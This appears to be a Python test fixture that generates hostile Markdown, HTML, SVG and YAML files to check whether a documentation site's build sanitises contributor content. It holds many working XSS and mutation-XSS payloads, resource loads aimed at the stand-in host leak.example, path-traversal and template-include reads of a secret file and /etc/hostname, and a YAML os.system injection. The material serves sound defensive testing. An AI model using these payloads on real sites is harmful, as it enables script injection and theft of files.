# ruff: noqa: E501 - a payload stands on one line
"""Hostile texts for every place that a contributor writes to: vectors times sinks.

A vector is what an attacker writes; ``%J`` stands for a call that tells the test which
placement ran, ``%U`` for an address of another host that names the placement. A sink is a
place of a file. Each placement has a number, which `Corpus` keeps.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

LEAK = "leak.example"
"""The host that nothing may ask: ``r<number>.leak.example``."""
SECRET = "SECRET-OUTSIDE-DOCS"

RUN = {
    "script": "<script>%J</script>",
    "script src": '<script src="%U"></script>',
    "script, capitals": "<ScRiPt>%J</sCrIpT>",
    "script of a module": '<script type="module">%J</script>',
    "image": "<img src=x: onerror=%J>",
    "image, slash": "<img/src=x:/onerror=%J>",
    "image, lines": "<img\nsrc=x:\nonerror\n=\n'%J'>",
    "image, quotes": "<img src='x:' alt='\">' onerror=\"%J\">",
    "svg": "<svg onload=%J></svg>",
    "svg script": "<svg><script>%J</script></svg>",
    "svg script, entity": "<svg><script>&#112;wn&#40;%N)</script></svg>",
    "svg animate": "<svg><animate onbegin=%J attributeName=x dur=1s></svg>",
    "svg set": "<svg><a><set attributeName=href to=javascript:%J /><text y=20>go</text></a></svg>",
    "svg foreign": "<svg><foreignObject><img src=x: onerror=%J></foreignObject></svg>",
    "math": "<math><mtext><img src=x: onerror=%J></mtext></math>",
    "math link": "<math href=javascript:%J>go</math>",
    "mutation, style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x: onerror=%J&gt;">'
    ),
    "mutation, svg": '<svg></p><style><a id="</style><img src=x: onerror=%J>">',
    "mutation, noscript": '<noscript><p title="</noscript><img src=x: onerror=%J>"></noscript>',
    "mutation, form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=%J src=x:>\">",
    "frame": '<iframe srcdoc="<script>parent.%J</script>"></iframe>',
    "frame of a script": "<iframe src=javascript:parent.%J></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>parent.%J</script>'></iframe>",
    "object": "<object data=javascript:%J></object>",
    "object of data": '<object data="data:text/html,<script>parent.%J</script>"></object>',
    "embed": "<embed src=javascript:%J>",
    "details": "<details open ontoggle=%J><summary>a</summary></details>",
    "focus": "<input autofocus onfocus=%J>",
    "focus of anything": "<b tabindex=1 autofocus onfocus=%J>a</b>",
    "button": "<form><button formaction=javascript:%J>go</button></form>",
    "form": "<form action=javascript:%J><input type=submit value=go></form>",
    "video": "<video><source onerror=%J></video>",
    "audio": "<audio src=x: onerror=%J></audio>",
    "marquee": "<marquee onstart=%J>a</marquee>",
    "animation": (
        "<style>@keyframes k%N{}</style><b style='animation:k%N 1s' onanimationstart=%J>a</b>"
    ),
    "body": "<body onload=%J onpageshow=%J>",
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:%J">',
    "link": '<a href="javascript:%J">go</a>',
    "link, capitals": '<a href="JaVaScRiPt:%J">go</a>',
    "link, entity": '<a href="&#106;avascript&colon;%J">go</a>',
    "link, tab": '<a href="java&Tab;script:%J">go</a>',
    "link, control": '<a href="&#1;javascript:%J">go</a>',
    "link of data": '<a href="data:text/html,<script>opener.%J</script>">go</a>',
    "link of vbscript": '<a href="vbscript:%J">go</a>',
    "area": '<map name=m><area href="javascript:%J" shape=default></map>',
    "Markdown link": "[go](javascript:%J)",
    "Markdown link, brackets": "[go](<javascript:%J>)",
    "Markdown link, entity": "[go](&#x6A;avascript:%J)",
    "Markdown autolink": "<javascript:%J>",
    "Markdown reference": "[go][r%N]\n\n[r%N]: javascript:%J",
    "Markdown title": '[a](b "x\\" onmouseover=%J ")',
    "Markdown image": '![x" onerror="%J](x: "y")',
    "attribute list": "a {: onclick=%J onmouseover=%J style='position:fixed' }",
    "tooltip": '<b title="<img src=x: onerror=%J>">a</b>',
    "tooltip, entity": '<b title="&lt;img src=x: onerror=%J&gt;">a</b>',
    "template": '<template><img src=x: onerror=%J></template>',
    "shadow": '<div><template shadowrootmode=open><img src=x: onerror=%J></template></div>',
    "card": '<template class="nk-cards"><div class="nk-card"><img src=x: onerror=%J></div></template>',
    "theme's words": '<a class="md-skip" data-md-component="skip" href="javascript:%J">go</a>',
    "Jinja": "{{ '<img src=x: onerror=%J>' | safe }}{% raw %}",
    "concept": "[[moe|<img src=x: onerror=%J>]]",
    "diagram": "```mermaid\ngraph TD; a[\"<img src=x: onerror=%J>\"]; click a \"javascript:%J\"\n```",
    "code": "```html title=\"<img src=x: onerror=%J>\" onclick=%J\n<img src=x: onerror=%J>\n```",
    "formula": "\\(\\href{javascript:%J}{x}\\) $$\\html{<img src=x: onerror=%J>}$$",
    "footnote": "a[^%N]\n\n[^%N]: <img src=x: onerror=%J>",
    "quote breaker": '"><img src=x: onerror=%J>',
    "apostrophe breaker": "'><img src=x: onerror=%J>",
    "attribute breaker": '" autofocus onfocus=%J tabindex=1 x="',
    "entity breaker": "&quot;&gt;&lt;img src=x: onerror=%J&gt;",
    "double entity": "&amp;lt;img src=x: onerror=%J&amp;gt;",
    "script breaker": "</script><script>%J</script>",
    "title breaker": "</title><img src=x: onerror=%J>",
    "template breaker": "</template><img src=x: onerror=%J>",
    "CDATA breaker": "]]><img src=x: onerror=%J>",
    "JSON breaker": '"},{"x":"</script><img src=x: onerror=%J>',
    "JavaScript breaker": "';%J;//\u2028`${%J}`\\';%J//",
    "folded letters": "\uff1cimg src=x: onerror=%J\uff1e",
    "hidden letters": "<im\u200bg src=x: onerror=%J><scr\x00ipt>%J</scr\x00ipt>",
}  # fmt: skip
"""What runs where nothing guards; none of it is open behind its block."""

LOAD = {
    "image": '<img src="http:%U">',
    "image, no scheme": "<img src=%U>",
    "image, backslashes": "<img src=\\\\r%N.leak.example/a>",
    "image, entity": '<img src="ht&#10;tp:%U">',
    "image, set": '<img src=a.png srcset="http:%U 1x, http:%U 2x">',
    "picture": '<picture><source srcset="http:%U"><img src=a.png></picture>',
    "lazy": '<img src="a.png" data-src="http:%U" loading=lazy longdesc="http:%U">',
    "Markdown image": "![a](http:%U)",
    "Markdown image, no scheme": "![a](%U)",
    "Markdown reference": "![a][p%N]\n\n[p%N]: http:%U",
    "linked image": "[![a](http:%U)](b)",
    "video": '<video src="http:%U" poster="http:%U" autoplay></video>',
    "audio": '<audio src="http:%U" autoplay></audio>',
    "track": '<video><track default src="http:%U"></video>',
    "input": '<input type=image src="http:%U">',
    "style sheet": '<link rel=stylesheet href="http:%U">',
    "preload": '<link rel=preload as=image href="http:%U"><link rel=prefetch href="http:%U">',
    "icon": '<link rel=icon href="http:%U">',
    "manifest": '<link rel=manifest href="http:%U">',
    "import of styles": "<style>@import 'http:%U';</style>",
    "styles": "<style>body{background:url(http:%U)}</style>",
    "style": '<b style="background:url(http:%U)">a</b>',
    "list style": '<ul style="list-style:url(http:%U)"><li>a</ul>',
    "cell style": '<table><tr><td style="text-align: left;background:url(http:%U)">a</table>',
    "background": '<table background="http:%U"><tr><td background="http:%U">a</table>',
    "frame": '<iframe src="http:%U"></iframe>',
    "object": '<object data="http:%U"></object><embed src="http:%U">',
    "svg image": '<svg><image href="http:%U"/><use href="http:%U#a"/></svg>',
    "svg filter": '<svg><filter id=f><feImage href="http:%U"/></filter><g filter="url(#f)"/></svg>',
    "base": '<base href="http:%U"><img src=relative.png>',
    "refresh": '<meta http-equiv=refresh content="0;url=http:%U">',
    "ping": '<a href="#x" ping="http:%U">go</a>',
    "attribute list": "![a](a.png){: src=http:%U srcset=http:%U }",
    "snippet": '--8<-- "http:%U"',
}
"""What asks another host where nothing guards."""

OPEN = {
    "comment": "<!-- <img src=x: onerror=%J>",
    "comment, closed oddly": "<!--> <img src=x: onerror=%J>",
    "comment, bang": "<!-- --!> <img src=x: onerror=%J>",
    "declaration": "<![CDATA[ <img src=x: onerror=%J>",
    "instruction": "<?php <img src=x: onerror=%J>",
    "title": "<title><img src=x: onerror=%J></title><title>",
    "text area": "<textarea></textarea><img src=x: onerror=%J><textarea>",
    "no text": "<noembed><img title=\"</noembed><img src=x: onerror=%J>\">",
    "example": "<xmp></xmp><img src=x: onerror=%J><xmp>",
    "plain text": "<plaintext><img src=x: onerror=%J>",
    "select": "<select><option><img src=x: onerror=%J><template>",
    "tag without end": "<img src=x: onerror=%J ",
    "attribute without end": "<img src=\"x:\" onerror=\"%J",
    "dangling": "<img src='http:%U?",
}  # fmt: skip
"""What swallows the text behind it: each has a note of its own."""

FIELDS = (
    "quote breaker", "apostrophe breaker", "attribute breaker", "entity breaker", "double entity",
    "script breaker", "title breaker", "template breaker", "CDATA breaker", "JSON breaker",
    "JavaScript breaker", "image", "svg", "link", "Markdown link", "Jinja", "tooltip, entity",
    "folded letters",
)  # fmt: skip
"""The vectors of `RUN` that values of front matter are filled with."""


@dataclass
class Corpus:
    """The files of a hostile site, and what each number in them stands for."""

    tree: dict[str, str | bytes] = field(default_factory=dict)
    placements: list[str] = field(default_factory=list)
    """``sink: vector`` of each number."""

    def place(self, sink: str, name: str, vector: str) -> str:
        """Give a vector for one placement, and remember it."""
        number = str(len(self.placements))
        self.placements.append(f"{sink}: {name}")
        filled = vector.replace("%J", f"pwn({number})").replace("%N", number)
        return filled.replace("%U", f"//r{number}.{LEAK}/a")

    def sinks(self) -> frozenset[str]:
        """Name the sinks."""
        return frozenset(name.partition(":")[0] for name in self.placements)


def _one_line(text: str) -> str:
    return " ".join(text.split("\n"))


def _quoted(text: str) -> str:
    return text.replace("\n", "\n> ")


BODY = {
    "paragraph": "{}\n\n",
    "point": "- 混合专家 {}\n\n",
    "heading": "## 甲 {}\n\n文。\n\n",
    "quote": "> {}\n\n",
    "cell": "| 甲 | 乙 |\n|---|---|\n| {} | {} |\n\n",
    "inline code": "`{}`\n\n",
    "fence": "~~~~html\n{}\n~~~~\n\n",
    "indented code": "    {}\n\n",
    "link text": "[{}](talk.md)\n\n",
    "link title": "[甲](talk.md '{}')\n\n",
    "image text": "![{}](dot.png)\n\n",
    "image title": '![甲](dot.png "{}")\n\n',
    "missing figure": "![缺图：{}](missing)\n\n",
    "attribute": "甲\n{{: title='{}' aria-label='{}' }}\n\n",
    "within HTML": '<div markdown="1" class="{}">\n\n{}\n\n</div>\n\n',
    "admonition": '!!! note "{}"\n    {}\n\n',
    "speaker": "**{}：** 文。\n\n",
}
"""The sinks of a note's body."""
ONE_LINE = frozenset({"heading", "cell", "inline code", "link text", "link title", "image text",
    "image title", "missing figure", "attribute", "speaker", "indented code"})  # fmt: skip

NOTE_HEAD = "---\ntitle: {}\ndate: 2025-01-01\n---\n\n"


def _in_body(corpus: Corpus) -> Iterator[tuple[str, str]]:
    vectors = {**RUN, **{f"load, {name}": text for name, text in LOAD.items()}}
    for number, (sink, frame) in enumerate(BODY.items()):
        parts = [NOTE_HEAD.format(f"体{number}")]
        for name, vector in vectors.items():
            placed = corpus.place(sink, name, vector)
            placed = _one_line(placed) if sink in ONE_LINE else placed
            placed = _quoted(placed) if sink == "quote" else placed
            parts.append(frame.format(*[placed] * frame.count("{}")))
        yield f"docs/notes/body{number}.md", "".join(parts)
    for number, (name, vector) in enumerate(OPEN.items()):
        text = (
            f"{NOTE_HEAD.format(f'开{number}')}## 甲\n\n文\n\n{corpus.place('open', name, vector)}"
        )
        yield f"docs/notes/open{number}.md", f"{text}\n\n- 混合专家\n"


def _in_fields(corpus: Corpus) -> Iterator[tuple[str, str]]:
    for number, name in enumerate(FIELDS):

        def put(sink: str, name: str = name) -> str:
            return json.dumps(corpus.place(sink, name, RUN[name]), ensure_ascii=False)

        source = ", ".join(
            f"{part}: {put(f'source.{part}')}" for part in ("title", "url", "author", "license")
        )
        yield (
            f"docs/notes/field{number}.md",
            (
                f"---\ntitle: {put('title')}\ndate: 2025-01-{number + 1:02}\nevent: {put('event')}\n"
                f"summary: {put('summary')}\ntags: [{put('tag')}, DeepSeek]\nsource: {{{source}}}\n"
                f"icon: {put('icon')}\ntemplate: {put('template')}\nhide: [{put('hide')}]\n---\n\n"
                f"## 乙 {{#b topic=moe}}\n\n- 概念{number} 与混合专家。\n"
            ),
        )
        yield (
            f"docs/concepts/field{number}.md",
            (
                f"---\nlabels: {{zh: {put('label')}, en: {put('label, en')}}}\n"
                f"aliases: {{zh: [概念{number}, {put('alias')}], en: [{put('alias, en')}]}}\n"
                f"definition: {{zh: {put('definition')}, en: {put('definition, en')}}}\n"
                f"sources: [{{title: {put('source title')}, url: {put('source url')}}}]\n"
                f"not_in: {{zh: [{put('not_in')}]}}\ncontext: {{zh: [{put('context')}]}}\n---\n\n"
                f"文 {corpus.place('article', name, RUN[name])} 混合专家\n"
            ),
        )


def _in_pastes(corpus: Corpus) -> Iterator[tuple[str, str]]:
    lines = ["题 " + corpus.place("paste, title", "image", RUN["image"]), ""]
    for number, (name, vector) in enumerate(RUN.items(), 1):
        placed = _one_line(corpus.place("paste", name, vector))
        lines += [
            f"{number}、{placed}",
            "",
            f"  • 点 {placed}",
            f"主持人：{placed}",
            f"图{number}：{placed}",
        ]
    yield "docs/notes/paste.txt", "\n".join(lines)
    article = "".join(
        f"{corpus.place('article', name, vector)}\n\n" for name, vector in (RUN | LOAD).items()
    )
    record = "---\nlabels: {zh: 条目, en: Entry}\ndefinition: {zh: 条。, en: E.}\n---\n\n"
    yield "docs/concepts/entry.md", record + article
    yield "docs/concepts/entry.en.md", article


def _in_routes(corpus: Corpus) -> Iterator[tuple[str, str]]:
    """Routes, and a note whose statements are judged and cited."""
    lines: list[str] = []
    for number, name in enumerate(FIELDS):

        def put(sink: str, name: str = name) -> str:
            return json.dumps(corpus.place(sink, name, RUN[name]), ensure_ascii=False)

        lines += [
            f"way{number}:",
            f"  title: {{zh: {put('route title')}, en: {put('route title, en')}}}",
            f"  lead: {{zh: {put('route lead')}}}",
            f"  prerequisites: [{put('route prerequisite')}, moe]",
            f"  pages: [notes/judged.md, {put('route page')}, concepts/moe.md]",
        ]
        lines += [f"? {put('route id')}\n: {{title: {{zh: 路}}, pages: [notes/judged.md]}}"]
    yield "docs/routes.yml", "\n".join(lines) + "\n"
    parts = [NOTE_HEAD.format("评")]
    for name, vector in RUN.items():
        placed = _one_line(corpus.place("judged statement", name, vector))
        judged = _one_line(corpus.place("verdict", name, vector)).replace('"', "&quot;")
        reason = _one_line(corpus.place("reason", name, vector))
        parts.append(f"- 说法 {placed}\n    - **编者注（2026-11）**：{reason} {{verdict=wrong}}\n")
        parts.append(f'- 说法 {{verdict="{judged}"}}\n')
        parts.append(f'\n![图](dot.png) {{concepts="{judged}"}}\n\n')
    yield "docs/notes/judged.md", "".join(parts)


HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" %A>'
DRAWINGS = {
    "handler": (HEAD.replace("%A", 'onload="%J"') + "</svg>"),
    "script": HEAD + "<script>%J</script></svg>",
    "prefix": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>%J</s:script></s:svg>',
    "XHTML": HEAD + '<h:script xmlns:h="http://www.w3.org/1999/xhtml">%J</h:script></svg>',
    "entity": '<!DOCTYPE svg [<!ENTITY e "%J">]>' + HEAD + "<script>&e;</script></svg>",
    "default attribute": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "%J">]>' + HEAD + "</svg>",
    "foreign": HEAD + '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"'
    ' src="javascript:parent.%J"/></foreignObject></svg>',
    "script before an error": HEAD + "<script>%J</script><g></svg>",
    "image": HEAD + '<image href="http:%U"/></svg>',
    "used": HEAD + '<use xlink:href="http:%U#a"/></svg>',
    "styles": HEAD + "<style>@import 'http:%U';</style></svg>",
    "instruction": '<?xml-stylesheet href="http:%U"?>' + HEAD + "</svg>",
}


def _in_files(corpus: Corpus) -> Iterator[tuple[str, str | bytes]]:
    for number, (name, drawing) in enumerate(DRAWINGS.items()):
        text = corpus.place("drawing", name, drawing).replace("%A", "")
        yield f"docs/notes/d{number}.svg", text
        yield (
            f"docs/notes/w{number}.svg",
            corpus.place("drawing, UTF-16", name, drawing).replace("%A", "").encode("utf-16"),
        )
    page = "<!doctype html><script>%J</script>"
    for suffix in (
        "html",
        "htm",
        "xhtml",
        "xht",
        "svgz",
        "xml",
        "js",
        "mhtml",
        "shtml",
        "HTML",
        "",
    ):
        data = corpus.place("file", suffix or "no suffix", page)
        yield f"docs/notes/f{suffix}.{suffix}" if suffix else "docs/notes/nosuffix", data
    for left in (".left.md.swp", "left.md~", "#left.md#", "left.bak"):
        yield f"docs/notes/{left}", corpus.place("file", left, page)
    for name, text in {
        "file name, page": "<img src=x: onerror=%J>",
        "file name, quote": '"autofocus onfocus=%J x=',
        "file name, scheme": "javascript:%J",
    }.items():
        stem = corpus.place("file name", name, text)
        yield f"docs/notes/{stem}.md", f"## 丙\n\n![a]({stem}.png) 混合专家\n"
        yield f"docs/notes/{stem}.png", b"\x89PNG\r\n\x1a\n"
        yield f"docs/concepts/{stem}.md", f"---\nlabels: {{zh: {json.dumps(stem)}}}\n---\n\n文\n"


OUTSIDE = """\
---
title: 外
!!python/object/apply:os.system: [touch pwned]
INHERIT: ../../secret.txt
template: ../../secret.txt
---

## 甲

--8<-- "secret.txt"

--8<-- "../secret.txt"

;--8<--
secret.txt
;--8<--

```
--8<-- "secret.txt"
```

{% include "../secret.txt" %} {{ read_csv("secret.txt") }} {{ environ }}

![a](../../secret.txt) [b](../../secret.txt) ![c](/etc/hostname) [d](file:///etc/hostname)

<img src="../../secret.txt"> <a href="../../../secret.txt">e</a>

!INCLUDE "secret.txt"

```python exec="on"
print(open("secret.txt").read())
```
"""
"""A note that tries to read what lies beside the docs folder."""


def hostile_corpus() -> Corpus:
    """Draw the files of the site."""
    corpus = Corpus()
    for fill in (_in_body, _in_fields, _in_pastes, _in_routes, _in_files):
        corpus.tree |= dict(fill(corpus))
    corpus.tree |= {
        "docs/index.md": "# 首页\n\n欢迎。\n",
        "docs/index.en.md": "# Home\n\nWelcome.\n",
        "docs/notes/outside.md": OUTSIDE,
        "docs/notes/a.png": b"\x89PNG\r\n\x1a\n",
        "docs/notes/dot.png": b"\x89PNG\r\n\x1a\n",
        "docs/concepts/moe.md": (
            "---\nlabels: {zh: 混合专家, en: MoE}\ndefinition: {zh: 稀疏。, en: Sparse.}\n"
            "topic: 1\n---\n\n文\n"
        ),
        "secret.txt": f"{SECRET}\n",
        "imported.html": _saved_page(corpus),
    }
    return corpus


def _saved_page(corpus: Corpus) -> str:
    """Give a page to be imported: every vector as a paragraph, a heading and a cell."""
    parts = ["<!doctype html><title>页</title><h1>页</h1>"]
    for name, vector in (RUN | LOAD).items():
        placed = corpus.place("import", name, vector)
        escaped = placed.replace("&", "&amp;").replace("<", "&lt;")
        parts.append(f"<h2>节 {escaped}</h2><p>{escaped}</p><p>{placed}</p>")
        parts.append(f"<table><tr><th>{escaped}</th><td>a</td></tr></table>")
        parts.append(f'<figure><img src="{placed}" alt="{placed}"></figure>')
    return "".join(parts)


def by_sink(placements: Mapping[int, str] | list[str]) -> dict[str, list[str]]:
    """Sort placements by their sinks."""
    found: dict[str, list[str]] = {}
    named = placements.values() if isinstance(placements, Mapping) else placements
    for one in named:
        sink, _, vector = one.partition(": ")
        found.setdefault(sink, []).append(vector)
    return found
